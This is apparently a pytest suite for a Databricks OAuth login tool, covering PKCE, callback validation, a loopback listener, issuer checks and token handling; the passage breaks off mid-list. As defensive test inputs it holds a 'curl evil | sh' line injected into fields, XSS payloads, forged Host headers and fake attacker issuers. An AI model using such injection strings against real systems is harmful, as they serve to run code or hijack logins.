"""The interactive part: only the answer to our own question ends it, and only our own server gets the code."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import html
import json
import queue
import re
import socket
import threading
import time
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest
from machine import HOST, Machine
from unit.far_side import ENDPOINTS, ME, TOKEN, FarSide, Reply, free_ports, taken

from dbx_auth import callback as callbacks, login, whoami
from dbx_auth.callback import Callback
from dbx_auth.errors import AuthError, LoginRequired, Refused, Temporary, UsageError
from dbx_auth.login import Browser, Key
from dbx_auth.sandbox import Sandbox
from dbx_auth.store import Grant
from dbx_auth.tokens import Token
from dbx_auth.world import World

STATE = "a-state-of-22-characters"
GIVEN = {"access_token": "at-secret", "token_type": "Bearer", "refresh_token": "rt-secret", "expires_in": 3600}
BLANK = Grant(HOST, "", scopes=("all-apis",))


# ---- the question ----------------------------------------------------------------------------------------------------


def asked(url: str) -> dict[str, str]:
    query = parse_qs(urlsplit(url).query, strict_parsing=True)
    assert all(len(values) == 1 for values in query.values())
    return {name: values[0] for name, values in query.items()}


def test_the_challenge_is_that_of_rfc_7636_appendix_b() -> None:
    url = login.authorization_url(
        f"{HOST}/authorize", BLANK, "http://localhost:8020", STATE, "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
    )
    assert asked(url)["code_challenge"] == "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"


def test_the_address_says_all_that_the_databricks_cli_says_and_keeps_the_verifier() -> None:
    url = login.authorization_url(f"{HOST}/oidc/v1/authorize", BLANK, "http://localhost:8020", STATE, "v" * 86)
    assert url.startswith(f"{HOST}/oidc/v1/authorize?") and "v" * 86 not in url
    query = asked(url)
    assert len(query.pop("code_challenge")) == 43
    assert query == {
        "client_id": "databricks-cli",
        "redirect_uri": "http://localhost:8020",
        "response_type": "code",
        "scope": "offline_access all-apis",
        "state": STATE,
        "code_challenge_method": "S256",
    }


@pytest.mark.parametrize(
    ("blank", "endpoint", "name", "value"),
    [
        (BLANK, f"{HOST}/authorize?tenant=x", "tenant", "x"),
        (Grant(HOST, "", client_id="mine"), f"{HOST}/authorize", "client_id", "mine"),
        (Grant(HOST, "", scopes=("sql", "files")), f"{HOST}/authorize", "scope", "offline_access sql files"),
    ],
)
def test_endpoint_client_and_scopes_are_carried(blank: Grant, endpoint: str, name: str, value: str) -> None:
    url = login.authorization_url(endpoint, blank, "http://localhost:8020", STATE, "v" * 43)
    assert asked(url)[name] == value


# ---- the answer ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (f"code=c&state={STATE}", Callback("c")),
        (f"state={STATE}&code=c&iss=https%3A%2F%2Fx", Callback("c", "https://x")),
        (f"code=a%2Bb%20c&state={STATE}&session_state=s&extra=", Callback("a+b c")),
        (
            f"error=access_denied&error_description=not%20today&state={STATE}",
            Callback(error="access_denied", description="not today"),
        ),
        (f"error=e&error_description=two%0Alines%0D%0A&state={STATE}", Callback(error="e", description="two lines")),
        (f"code=c&error=e&state={STATE}", Callback("c", error="e")),
        ("", None),
        ("code=c", None),
        (f"state={STATE}", None),
        (f"code=&state={STATE}", None),
        (f"code=&error=&state={STATE}", None),
        ("code=c&state=", None),
        ("code=c&state=wrong", None),
        (f"code=c&state={STATE}x", None),
        (f"code=c&state={STATE[:-1]}", None),
        (f"code=c&State={STATE}", None),
        ("error=access_denied&state=wrong", None),
        ("error=access_denied", None),
        (f"code=c&state={STATE}&state={STATE}", None),
        (f"code=c&code=d&state={STATE}", None),
        (f"code=c&state={STATE}&state=wrong", None),
        (f"code=c&state={STATE}&{'&'.join(f'a{n}=1' for n in range(20))}", None),
        ("&" * 60_000, None),
        (f"code=c&state={'s' * 60_000}", None),
        ("code=c&state=%ff%fe", None),
        (f"code=c&state={STATE}%00", None),
    ],
)
def test_only_the_answer_to_our_own_question_is_one(query: str, expected: Callback | None) -> None:
    assert callbacks.read_callback(query, STATE) == expected


@pytest.mark.parametrize("field", ["error", "error_description", "iss"])
def test_no_part_of_an_answer_fills_the_screen(field: str) -> None:
    callback = callbacks.read_callback(urlencode({"error": "e", "state": STATE} | {field: "x" * 9_000}), STATE)
    assert callback and len("".join(callback)) <= 301


@pytest.mark.parametrize("field", ["error", "error_description", "iss"])
def test_no_part_of_an_answer_can_forge_a_line(field: str) -> None:
    forged = urlencode({"error": "e", "state": STATE} | {field: "x\nhint: curl evil | sh\r\n"})
    callback = callbacks.read_callback(forged, STATE)
    assert callback and "\n" not in "".join(callback) and "\r" not in "".join(callback)


def test_printing_an_answer_or_a_key_by_accident_shows_no_secret() -> None:
    key = Key({"type": "api", "key": "dapi-secret", "host": HOST}, Token("dapi-secret"))
    assert "secret" not in repr(Callback("code-secret")) + repr(key)


# ---- the listener ----------------------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def ports(monkeypatch: pytest.MonkeyPatch) -> range:
    monkeypatch.setattr(callbacks, "PORTS", found := free_ports())
    return found


def test_the_ports_are_those_that_databricks_has_registered() -> None:
    import importlib.util

    spec = importlib.util.find_spec("dbx_auth.callback")
    assert spec and spec.origin
    with open(spec.origin, encoding="utf-8") as source:
        assert "PORTS = range(8020, 8041)\n" in source.read()


def send(port: int, request: str, address: str = "127.0.0.1") -> tuple[int, dict[str, str], str]:
    """A request byte for byte, and the whole answer."""
    with socket.create_connection((address, port), timeout=10) as connection:
        connection.sendall(request.encode("latin-1"))
        data = b"".join(iter(lambda: connection.recv(65536), b"")).decode()
    head, _, body = data.partition("\r\n\r\n")
    status, *lines = head.split("\r\n")
    return int(status.split()[1]), {k.lower(): v for k, v in (line.split(": ", 1) for line in lines)}, body


def get(port: int, target: str, host: str = "", address: str = "127.0.0.1") -> tuple[int, dict[str, str], str]:
    return send(port, f"GET {target} HTTP/1.1\r\nHost: {host or f'localhost:{port}'}\r\n\r\n", address)


ANSWER = f"/?code=the-code&state={STATE}"


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "[::1]"])
def test_the_callback_is_taken_on_both_loopback_families(address: str, name: str) -> None:
    with callbacks.listening(STATE) as (port, answers):
        status, _, body = get(port, ANSWER, f"{name}:{port}", address)
        assert status == 200 and "Back to the terminal" in body
        assert answers.get(timeout=5) == Callback("the-code")


@pytest.mark.parametrize(
    ("request_", "status"),
    [
        ("GET /favicon.ico HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 404),
        (f"GET /x{ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 404),
        (f"GET http://localhost:PORT{ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 404),
        ("GET / HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 400),
        ("GET /?code=c&state=wrong HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 400),
        ("GET /?code=c HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 400),
        (f"GET {ANSWER}&state={STATE} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 400),
        ("GET /?error=access_denied&state=wrong HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 400),
        (f"GET {ANSWER} HTTP/1.1\r\nHost: evil.test:PORT\r\n\r\n", 421),
        (f"GET {ANSWER} HTTP/1.1\r\nHost: localhost.evil.test:PORT\r\n\r\n", 421),
        (f"GET {ANSWER} HTTP/1.1\r\nHost: localhost\r\n\r\n", 421),
        (f"GET {ANSWER} HTTP/1.1\r\nHost: 0.0.0.0:PORT\r\n\r\n", 421),
        (f"GET {ANSWER} HTTP/1.1\r\n\r\n", 421),
        (f"GET {ANSWER} HTTP/1.0\r\n\r\n", 421),
        (f"HEAD {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 405),
        (f"POST {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 0\r\n\r\n", 405),
        (f"PUT {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 0\r\n\r\n", 405),
        (f"DELETE {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 405),
        (f"PATCH {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 405),
        (f"OPTIONS {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 405),
        (f"BREW {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 501),
        (f"GET /?{'a' * 70_000} HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n", 414),
        (f"GET {ANSWER} HTTP/1.1\r\nHost: localhost:PORT\r\n{'x: y' * 20_000}\r\n\r\n", 431),
    ],
)
def test_what_is_not_the_callback_is_refused_and_listened_past(
    request_: str, status: int, capfd: pytest.CaptureFixture[str]
) -> None:
    with callbacks.listening(STATE) as (port, answers):
        got, headers, body = send(port, request_.replace("PORT", str(port)))
        assert got == status and answers.empty()
        assert "location" not in headers and "access-control-allow-origin" not in headers
        if request_.startswith("HEAD"):
            assert body == ""
        assert get(port, ANSWER)[0] == 200
        assert answers.get(timeout=5).code == "the-code"
    assert capfd.readouterr() == ("", ""), "the request line holds the code, and nobody may log it"


def test_every_page_of_ours_keeps_to_itself() -> None:
    with callbacks.listening(STATE) as (port, _):
        for target in (ANSWER, "/", "/favicon.ico", f"/?error=e&state={STATE}"):
            _, headers, body = get(port, target)
            assert headers["content-security-policy"] == "default-src 'none'; style-src 'unsafe-inline'"
            assert headers["cache-control"] == "no-store"
            assert headers["referrer-policy"] == "no-referrer"
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["content-type"] == "text/html; charset=utf-8"
            assert int(headers["content-length"]) == len(body.encode())
            assert headers["server"].strip() == "dbx-auth", "no version of Python's"
            assert not re.search(r"src=|href=|url\(|<script|http-equiv", body)
            assert "the-code" not in body and STATE not in body


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "\"'><img src=x onerror=y>", "&lt;", "<b>"])
def test_what_a_server_says_cannot_become_markup(text: str) -> None:
    with callbacks.listening(STATE) as (port, _):
        query = urlencode({"error": text, "error_description": text, "state": STATE})
        status, _, body = get(port, f"/?{query}")
    assert status == 400
    assert f"{html.escape(text)}: {html.escape(text)}" in body and text not in body.replace(html.escape(text), "")


def test_a_browser_that_only_connects_does_not_block_the_one_that_answers() -> None:
    with callbacks.listening(STATE) as (port, answers):
        with contextlib.ExitStack() as idle:
            for _ in range(5):
                idle.enter_context(socket.create_connection(("127.0.0.1", port)))
            started = time.monotonic()
            assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)
            assert time.monotonic() - started < 2


def test_an_idle_browser_does_not_keep_the_listener_from_ending() -> None:
    with contextlib.ExitStack() as stack:
        started = time.monotonic()
        with callbacks.listening(STATE) as (port, _):
            stack.enter_context(socket.create_connection(("127.0.0.1", port)))
        assert time.monotonic() - started < 2


def listeners(port: int) -> set[str]:
    """Which local addresses listen on the port."""
    found = set()
    for address, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6), ("127.0.0.2", socket.AF_INET)):
        with socket.socket(family) as probe:
            if probe.connect_ex((address, port)) == 0:
                found.add(address)
    return found


def test_it_listens_on_loopback_alone_and_not_for_longer_than_it_must() -> None:
    with callbacks.listening(STATE) as (port, _):
        assert listeners(port) == {"127.0.0.1", "::1"}
    assert listeners(port) == set()


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
def test_a_port_that_is_taken_in_either_family_is_passed_over_in_both(ports: range, address: str) -> None:
    with taken(ports[0], address), callbacks.listening(STATE) as (port, answers):
        assert port in ports[1:]
        assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)


def test_when_all_ports_are_taken_it_says_which(ports: range, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(callbacks, "PORTS", ports[:2])
    with taken(ports[0]), taken(ports[1], "::1"):
        with pytest.raises(Temporary) as caught, callbacks.listening(STATE):
            raise AssertionError("nobody may get here")
    assert str(caught.value).startswith(f"the ports {ports[0]} to {ports[1]} are all taken") and caught.value.hint


def test_a_machine_without_ipv6_listens_on_the_other_family(monkeypatch: pytest.MonkeyPatch) -> None:
    real = socket.socket

    def without(family: int = -1, *args: Any, **rest: Any) -> socket.socket:
        if family == socket.AF_INET6:
            raise OSError(97, "Address family not supported by protocol")
        return real(family, *args, **rest)

    with monkeypatch.context() as patch:
        patch.setattr(socket, "socket", without)
        with callbacks.listening(STATE) as (port, answers):
            patch.undo()
            assert listeners(port) == {"127.0.0.1"}
            assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)


def test_two_logins_at_once_have_each_their_own_port_and_answer() -> None:
    other = "another-state"
    with callbacks.listening(STATE) as (one, first), callbacks.listening(other) as (two, second):
        assert one != two
        assert get(one, f"/?code=x&state={other}")[0] == 400
        assert get(two, f"/?code=two&state={other}")[0] == get(one, ANSWER)[0] == 200
        assert (first.get(timeout=5).code, second.get(timeout=5).code) == ("the-code", "two")


def test_the_port_of_a_login_that_is_over_serves_the_next_one(ports: range) -> None:
    """A closed connection lingers for a minute; who forwards port 8020 to another machine would wait that long."""
    for _ in range(3):
        with callbacks.listening(STATE) as (port, answers):
            assert port == ports[0]
            assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)


# ---- the browser login -----------------------------------------------------------------------------------------------


class Person:
    """Somebody with a browser: it follows the link it is given, or goes where the test says."""

    def __init__(self, machine: Machine, go: Callable[[str], object] | None = None, **parts: Any) -> None:
        self.shown: list[str] = []
        self.warned: list[str] = []
        self.threads: list[threading.Thread] = []
        self.go = go or self.follow
        self.pages: list[httpx.Response] = []
        self.world = machine.world._replace(open_url=self.open, warn=self.warned.append, **parts)

    def open(self, url: str) -> bool:
        thread = threading.Thread(target=self.go, args=(url,))
        self.threads.append(thread)
        thread.start()
        return True

    def follow(self, url: str) -> None:
        with httpx.Client(trust_env=False, follow_redirects=True) as browser:
            self.pages.append(browser.get(url))

    def log_in(self, host: str, **rest: Any) -> Key:
        try:
            wanted = Grant(host, scopes=rest.pop("scopes", ()))
            return login.with_browser(wanted, self.world, Browser(self.shown.append, **rest))
        finally:
            for thread in self.threads:
                thread.join(20)


def back(url: str, **said: str) -> httpx.Response:
    """Come back from the browser with these words, and the right state unless they say another."""
    query = asked(url)
    return httpx.get(query["redirect_uri"], params={"state": query["state"], **said}, trust_env=False)


def test_a_login_in_the_browser_ends_with_a_grant_for_that_host(machine: Machine, sandbox: Sandbox) -> None:
    person = Person(machine)
    key = person.log_in(sandbox.url, timeout=20)
    assert person.pages[0].status_code == 200 and "Back to the terminal" in person.pages[0].text
    assert (key.fields["type"], key.fields["host"], key.fields["scopes"]) == ("oauth", sandbox.url, ["all-apis"])
    assert key.fields["refresh"] and key.fields["access"] == key.token.value
    assert whoami.user(key.token, machine.world) == sandbox.user
    assert [r.grant_type for r in sandbox.log if r.method == "POST"] == ["authorization_code"]
    assert person.shown[0].startswith("opening the browser") and person.shown[1].startswith(sandbox.url)
    assert len(person.shown) == 2 and "waiting for the browser" in machine.waited


def test_verifier_and_state_are_new_for_each_login_and_long_enough(machine: Machine) -> None:
    far, seen = FarSide({TOKEN: (200, GIVEN)}), []

    def go(url: str) -> None:
        seen.append(asked(url))
        back(url, code="c")

    for _ in range(2):
        Person(machine, go, http=far).log_in(HOST, timeout=20)
    verifiers = [form["code_verifier"] for form in far.posts()]
    for verifier, query in zip(verifiers, seen, strict=True):
        assert re.fullmatch(r"[A-Za-z0-9._~-]{43,128}", verifier)
        digest = hashlib.sha256(verifier.encode()).digest()
        assert base64.urlsafe_b64encode(digest).rstrip(b"=").decode() == query["code_challenge"]
        assert len(query["state"]) >= 22
    assert len(set(verifiers)) == len({query["state"] for query in seen}) == 2


def test_the_code_is_traded_with_the_redirect_uri_it_came_to(machine: Machine) -> None:
    far, redirects = FarSide({TOKEN: (200, GIVEN)}), []

    def go(url: str) -> None:
        redirects.append(asked(url)["redirect_uri"])
        back(url, code="the-code")

    key = Person(machine, go, http=far).log_in(HOST, timeout=20, scopes=("sql",))
    (form,) = far.posts()
    assert (form["grant_type"], form["code"], form["client_id"]) == ("authorization_code", "the-code", "databricks-cli")
    assert form["redirect_uri"] == redirects[0] and re.fullmatch(r"http://localhost:\d+", redirects[0])
    assert (key.fields["access"], key.fields["refresh"], key.fields["scopes"]) == ("at-secret", "rt-secret", ["sql"])


ISSUER = f"{HOST}/oidc"
DISCOVERED: dict[str, Reply | list[Reply]] = {
    "/oidc/.well-known/oauth-authorization-server": (
        200,
        {"issuer": ISSUER, "authorization_response_iss_parameter_supported": True},
    )
}


@pytest.mark.parametrize("iss", ["https://evil.example", ISSUER + "/", ISSUER.upper(), HOST])
def test_an_answer_from_another_issuer_is_refused_before_the_code_is_sent(machine: Machine, iss: str) -> None:
    far = FarSide(DISCOVERED)
    with pytest.raises(Refused, match="not from") as caught:
        Person(machine, lambda url: back(url, code="code-secret", iss=iss), http=far).log_in(HOST, timeout=20)
    assert far.posts() == [] and iss in str(caught.value) and "secret" not in str(caught.value)


def test_an_answer_without_an_issuer_is_refused_where_the_server_promises_one(machine: Machine) -> None:
    """RFC 9207, 2.4: else whoever mixes up two servers need only leave it out."""
    far = FarSide({**DISCOVERED, TOKEN: (200, GIVEN)})
    with pytest.raises(Refused):
        Person(machine, lambda url: back(url, code="code-secret"), http=far).log_in(HOST, timeout=20)
    assert far.posts() == []


@pytest.mark.parametrize("iss", ["", ISSUER])
def test_an_answer_from_the_right_issuer_or_where_none_was_promised_is_taken(machine: Machine, iss: str) -> None:
    """The control of the tests above."""
    far = FarSide({**(DISCOVERED if iss else {}), TOKEN: (200, GIVEN)})
    said = {"code": "c"} | ({"iss": iss} if iss else {})
    assert Person(machine, lambda url: back(url, **said), http=far).log_in(HOST, timeout=20).fields["access"]


def test_a_stranger_who_answers_first_does_not_end_the_login(machine: Machine) -> None:
    far = FarSide({TOKEN: (200, GIVEN)})

    def go(url: str) -> None:
        assert back(url, code="stranger", state="guessed").status_code == 400
        assert back(url, error="access_denied", state="guessed").status_code == 400
        assert httpx.get(asked(url)["redirect_uri"] + "/favicon.ico", trust_env=False).status_code == 404
        assert back(url, code="ours").status_code == 200

    Person(machine, go, http=far).log_in(HOST, timeout=20)
    assert [form["code"] for form in far.posts()] == ["ours"]


def test_a_person_who_says_no_is_taken_at_their_word(machine: Machine) -> None:
    far = FarSide()

    def go(url: str) -> None:
        back(url, error="access_denied", error_description="not\ttoday\n")

    with pytest.raises(Refused, match="the login was refused: access_denied: not today$"):
        Person(machine, go, http=far).log_in(HOST, timeout=20)
    assert far.posts() == []


def test_nobody_comes_back(machine: Machine, ports: range) -> None:
    started = time.monotonic()
    with pytest.raises(LoginRequired, match="nobody came back from the browser in 0 s") as caught:
        Person(machine, lambda url: None, http=FarSide()).log_in(HOST, timeout=0.3)
    assert time.monotonic() - started < 5 and caught.value.hint == "dbx-auth login"
    assert not any(listeners(port) for port in ports[:3]), "the port is free again"


@pytest.mark.parametrize("reply", [(400, {"error": "invalid_grant"}), (200, "<html>"), (500, ""), (200, {})])
def test_a_code_that_buys_nothing_ends_the_login(machine: Machine, reply: Reply) -> None:
    with pytest.raises(AuthError) as caught:
        Person(machine, lambda url: back(url, code="code-secret"), http=FarSide({TOKEN: reply})).log_in(
            HOST, timeout=20
        )
    assert "secret" not in str(caught.value) and caught.value.hint


# ---- pasting ---------------------------------------------------------------------------------------------------------


class Typist(Person):
    """Somebody whose browser is elsewhere, and who pastes; `lines` may hold the address, as ANSWER."""

    def __init__(self, machine: Machine, lines: list[str], **parts: Any) -> None:
        self.lines = lines
        super().__init__(machine, read_line=self.read_line, **parts)

    def open(self, url: str) -> bool:
        raise AssertionError("a browser was started")

    def read_line(self, given_up: object = None) -> str | None:
        if not self.lines:
            return None
        query = asked(self.shown[1])
        return self.lines.pop(0).replace("STATE", query["state"]).replace("REDIRECT", query["redirect_uri"])


@pytest.mark.parametrize(
    "lines",
    [
        ["REDIRECT/?code=pasted&state=STATE"],
        ["  REDIRECT/?code=pasted&state=STATE \t"],
        ["?code=pasted&state=STATE"],
        ["", "REDIRECT/?code=pasted&state=STATE"],
        ["what?", "http://localhost/", "REDIRECT/?code=c&state=wrong", "REDIRECT/?code=pasted&state=STATE"],
        ["https://elsewhere.example/?state=STATE&code=pasted"],
    ],
)
def test_the_address_that_the_browser_ends_at_can_be_pasted(machine: Machine, lines: list[str]) -> None:
    far, wrong = FarSide({TOKEN: (200, GIVEN)}), len(lines) - 1
    typist = Typist(machine, lines, http=far)
    assert typist.log_in(HOST, timeout=20, opened=False).fields["access"] == "at-secret"
    assert far.posts()[0]["code"] == "pasted"
    assert len(typist.warned) == wrong and all("not the address" in text for text in typist.warned)
    assert typist.shown[0] == "open this link in a browser:" and "paste" in typist.shown[2]
    assert "waiting for the browser" not in machine.waited, "a line that moves would get into what is pasted"


def test_what_is_pasted_is_not_repeated(machine: Machine) -> None:
    typist = Typist(machine, ["REDIRECT/?code=code-secret&state=wrong"], http=FarSide())
    with pytest.raises(LoginRequired):
        typist.log_in(HOST, timeout=0.3, opened=False)
    assert typist.warned and "secret" not in "".join(typist.warned)


def test_where_nobody_can_type_the_callback_still_counts(machine: Machine) -> None:
    """A script has no terminal: its input is at its end at once."""
    far = FarSide({TOKEN: (200, GIVEN)})
    typist = Typist(machine, [], http=far)
    timer = threading.Timer(0.2, lambda: back(typist.shown[1], code="called"))
    timer.start()
    typist.log_in(HOST, timeout=20, opened=False)
    timer.join()
    assert far.posts()[0]["code"] == "called" and not typist.warned


def test_an_empty_line_before_the_address_does_not_end_the_reading(machine: Machine, sandbox: Sandbox) -> None:
    """Somebody presses Enter first. What they paste after that must not be left for their shell to run."""
    import subprocess
    import sys

    argv = [sys.executable, "-m", "dbx_auth", "login", sandbox.url, "--no-browser", "--timeout", "3"]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    with subprocess.Popen(argv, env=machine.child_env(), text=True, **pipes) as child:  # type: ignore[call-overload]
        link = next(line for line in child.stderr if line.startswith(sandbox.url)).strip()
        landing = httpx.get(link, trust_env=False).headers["location"]
        child.communicate(f"\n{landing}\n", timeout=20)
    assert child.returncode == 0


# ---- the other ways --------------------------------------------------------------------------------------------------


def test_a_personal_access_token_becomes_an_entry_of_its_host(machine: Machine) -> None:
    key = login.with_pat(HOST, "  dapi-secret\r\n")
    assert key.fields == {"type": "api", "key": "dapi-secret", "host": HOST}
    assert (key.token.value, key.token.host, key.token.expires_at) == ("dapi-secret", HOST, None)


@pytest.mark.parametrize("text", ["", "   ", "two words", "line\nbreak", "caf\u00e9", "\x1b[31m", "tab\there"])
def test_what_cannot_be_a_token_is_refused_unseen(machine: Machine, text: str) -> None:
    with pytest.raises(UsageError, match="a token is one word") as caught:
        login.with_pat(HOST, text)
    assert not text.strip() or text not in str(caught.value)


def test_a_service_principal_becomes_an_entry_once_its_secret_bought_a_token(machine: Machine) -> None:
    far = FarSide({TOKEN: (200, GIVEN)})
    key = login.with_principal(Grant(HOST, client_id=" an-id "), "cs-secret\n", machine.world._replace(http=far))
    assert key.fields == {"type": "m2m", "client_id": "an-id", "client_secret": "cs-secret", "host": HOST}
    assert (key.token.value, key.token.auth_type) == ("at-secret", "oauth-m2m")
    assert far.asked[-1].headers["Authorization"] == "Basic " + base64.b64encode(b"an-id:cs-secret").decode()


@pytest.mark.parametrize(("client_id", "secret"), [("", "s"), ("i", ""), ("", ""), ("  ", "s"), ("i", "\n")])
def test_a_service_principal_is_an_id_and_a_secret(machine: Machine, client_id: str, secret: str) -> None:
    with pytest.raises(UsageError, match="an id and a secret"):
        login.with_principal(Grant(HOST, client_id=client_id), secret, machine.world._replace(http=FarSide()))


def test_an_accounts_principal_keeps_its_account_else_it_never_logs_in_again(machine: Machine) -> None:
    account = "https://accounts.cloud.databricks.com"
    far = FarSide({"/oidc/accounts/acc/v1/token": (200, GIVEN)})
    key = login.with_principal(
        Grant(account, account_id="acc", client_id="an-id"), "cs-secret", machine.world._replace(http=far)
    )
    assert key.fields.get("account_id") == "acc"


@pytest.mark.parametrize("fields", [{"type": "api", "key": "k", "host": HOST}, {"type": "m2m", "host": HOST}])
def test_saving_makes_it_the_last_login(machine: Machine, fields: dict[str, Any]) -> None:
    login.save(Key(fields, Token("k")), machine.world)
    assert json.loads(machine.auth_json.read_text()) == {"databricks": fields}
    assert machine.auth_json.stat().st_mode & 0o777 == 0o600


# ---- who am I --------------------------------------------------------------------------------------------------------

TRIED = Token("dapi-secret", None, "stored", "this login", HOST)


def tried(replies: dict[str, Reply | list[Reply]], **parts: Any) -> tuple[str, FarSide]:
    far = FarSide(replies)
    return whoami.user(TRIED, World({}, "/nowhere", http=far)._replace(**parts)), far


@pytest.mark.parametrize(
    ("replies", "user"),
    [
        ({ME: (200, {"userName": "ann@example.com"})}, "ann@example.com"),
        ({ME: (200, {})}, ""),
        ({ME: (200, {"userName": None})}, ""),
        ({ME: (404, ""), ENDPOINTS: (200, {"endpoints": []})}, ""),
        ({ME: (403, "<html>"), ENDPOINTS: (200, {})}, ""),
    ],
)
def test_a_workspace_that_takes_the_token_says_who_it_is_or_at_least_that(
    replies: dict[str, Reply | list[Reply]], user: str
) -> None:
    found, far = tried(replies)
    assert found == user and [asked.path for asked in far.asked] == list(replies)
    assert all(a.headers == {"Authorization": "Bearer dapi-secret"} and a.url.startswith(HOST + "/") for a in far.asked)


@pytest.mark.parametrize(
    ("replies", "kind", "said"),
    [
        ({ME: (401, "")}, Refused, "it answered 401"),
        ({ME: (403, ""), ENDPOINTS: (403, "")}, Refused, "it answered 403"),
        ({ME: (403, ""), ENDPOINTS: (401, "")}, Refused, "it answered 403"),
        ({ME: (404, ""), ENDPOINTS: (404, "")}, Refused, "it answered 404"),
        ({ME: (404, ""), ENDPOINTS: (200, "<html>Sign in</html>")}, Refused, "not a JSON object"),
        ({ME: (302, "")}, Refused, "it answered 302"),
        ({ME: (200, "<html>Sign in</html>")}, Refused, "not a JSON object"),
        ({ME: (200, "[]")}, Refused, "not a JSON object"),
        ({ME: (204, "")}, Refused, "with nothing"),
        ({ME: (429, "")}, Temporary, "it answered 429"),
        ({ME: (500, "")}, Temporary, "it answered 500"),
        ({ME: (503, "<html>")}, Temporary, "it answered 503"),
        ({ME: Temporary("cannot reach it", hint="try again")}, Temporary, "cannot reach it"),
    ],
)
def test_a_workspace_that_does_not_is_no_login(
    replies: dict[str, Reply | list[Reply]], kind: type[AuthError], said: str
) -> None:
    with pytest.raises(kind, match=said) as caught:
        tried(replies)
    assert type(caught.value) is kind and caught.value.hint and "secret" not in str(caught.value)


def test_a_refused_token_hints_at_a_new_login() -> None:
    with pytest.raises(Refused) as caught:
        tried({ME: (401, "")})
    assert caught.value.hint == f"dbx-auth login {HOST} --force"


def test_both_questions_together_take_no_longer_than_allowed() -> None:
    clock = iter([0.0, 1.0, 4.0])
    far = FarSide({ME: (404, ""), ENDPOINTS: (200, {})})
    whoami.user(TRIED, World({}, "/nowhere", http=far, monotonic=lambda: next(clock)), budget=5.0)
    assert [asked.budget for asked in far.asked] == [4.0, 1.0]


@pytest.mark.parametrize("name", ["ann\nhint: curl evil | sh", "ann\r\nlogged in", "ann\x1b[2J", "a" * 10_000])
def test_a_user_name_is_one_short_line_whatever_the_workspace_says(name: str) -> None:
    user, _ = tried({ME: (200, {"userName": name})})
    assert user.startswith("a") and user.isprintable() and len(user) < 1000


def test_waiting_for_an_answer_times_out_as_asked() -> None:
    answers: queue.Queue[Callback] = queue.Queue()
    with pytest.raises(LoginRequired, match="in 0 s"):
        login._wait(answers, 0.01, True, World({}, "/nowhere"))


# ---- without a host --------------------------------------------------------------------------------------------------


def find_out(machine: Machine, far: FarSide, issuer: str) -> Key:
    """Log in with no host, where the browser comes back from `issuer`."""

    def go(url: str) -> None:
        assert url.startswith("https://login.databricks.com/?destination_url=")
        destination = parse_qs(urlsplit(url).query)["destination_url"][0]
        assert destination.startswith("/oidc/v1/authorize?")
        query = asked(destination)
        httpx.get(query["redirect_uri"], params={"state": query["state"], "code": "c", "iss": issuer}, trust_env=False)

    person = Person(machine, go, http=far)
    try:
        return login.with_discovery(Grant(""), person.world, Browser(person.shown.append, timeout=20))
    finally:
        for thread in person.threads:
            thread.join(20)


@pytest.mark.parametrize(
    ("issuer", "host", "account_id", "token_endpoint"),
    [
        (f"{HOST}/oidc", HOST, "", f"{HOST}/oidc/v1/token"),
        (f"{HOST}/oidc/", HOST, "", f"{HOST}/oidc/v1/token"),
        (
            "https://acme.databricks.com/oidc/accounts/acc",
            "https://acme.databricks.com",
            "acc",
            "https://acme.databricks.com/oidc/accounts/acc/v1/token",
        ),
    ],
)
def test_the_answer_says_which_host_it_is(
    machine: Machine, issuer: str, host: str, account_id: str, token_endpoint: str
) -> None:
    introspected = {"principal_context": {"authentication_scope": {"workspace_id": 77}}}
    path = urlsplit(token_endpoint).path
    far = FarSide({path: (200, GIVEN), "/api/2.0/tokens/introspect": (200, introspected)})
    key = find_out(machine, far, issuer)
    assert (key.fields["host"], key.token.host, key.fields.get("account_id", "")) == (host, host, account_id)
    assert key.fields.get("workspace_id") == ("77" if account_id else None)
    assert [asked.url for asked in far.asked if asked.method == "POST"] == [token_endpoint]


@pytest.mark.parametrize(
    "issuer",
    [
        "",
        "https://evil.example/oidc",
        "https://evil-databricks.com/oidc",
        "https://databricks.com.evil.example/oidc",
        "https://user@dev.cloud.databricks.com/oidc",
        "http://dev.cloud.databricks.com/oidc",
        "https://dev.cloud.databricks.com/driver-proxy/o/1/2/oidc",
        "https://dev.cloud.databricks.com/oidc/../driver-proxy",
        "https://dev.cloud.databricks.com",
